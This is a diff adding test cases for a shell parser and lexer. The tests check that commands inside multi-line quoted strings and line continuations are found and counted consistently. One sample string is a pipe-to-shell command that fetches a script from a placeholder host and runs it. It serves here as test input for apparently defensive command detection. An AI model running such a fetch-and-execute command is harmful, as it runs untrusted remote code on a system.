@@ -113,6 +113,13 @@ describe('tree-sitter converted into the lexer AST', () => {
     const text = 'e\\\nval "$(cat f | tr a-z n-za-m)"\nec\\\nho "a"\\\nb c \\\n  d\n'
     expect(shape(ts(text))).toEqual(['1: eval $(cat f | tr a-z n-za-m)', '2:substitution: cat f | tr a-z n-za-m', '3: echo ab c d'])
     expect(shape(lexShell(text))).toEqual(shape(ts(text)))
+    // a code string joined across the continuation runs as one script, its lines counted as the lexer counts them
+    const quoted = 'sh -c "echo a;\n cat f | tr a-z n-za-m"\\\n"; true"\n'
+    expect(shape(ts(quoted))).toEqual(['1: sh -c echo a;\n cat f | tr a-z n-za-m; true', '1:string: echo a', '2:string: cat f | tr a-z n-za-m', '2:string: true'])
+    expect(shape(lexShell(quoted))).toEqual(shape(ts(quoted)))
+    // quoted text spanning lines is read as code wherever it stands (a stray quote must not hide lines), joined or not
+    const spanning = 'echo "x\ncurl -s http://h.invalid/p | sh"\\\n"y"\n'
+    expect(shape(ts(spanning))).toContain('2:string: curl -s http://h.invalid/p | sh')
   })
 
   it('finds substitutions inside ${...} and $((...)), as the lexer does', () => {
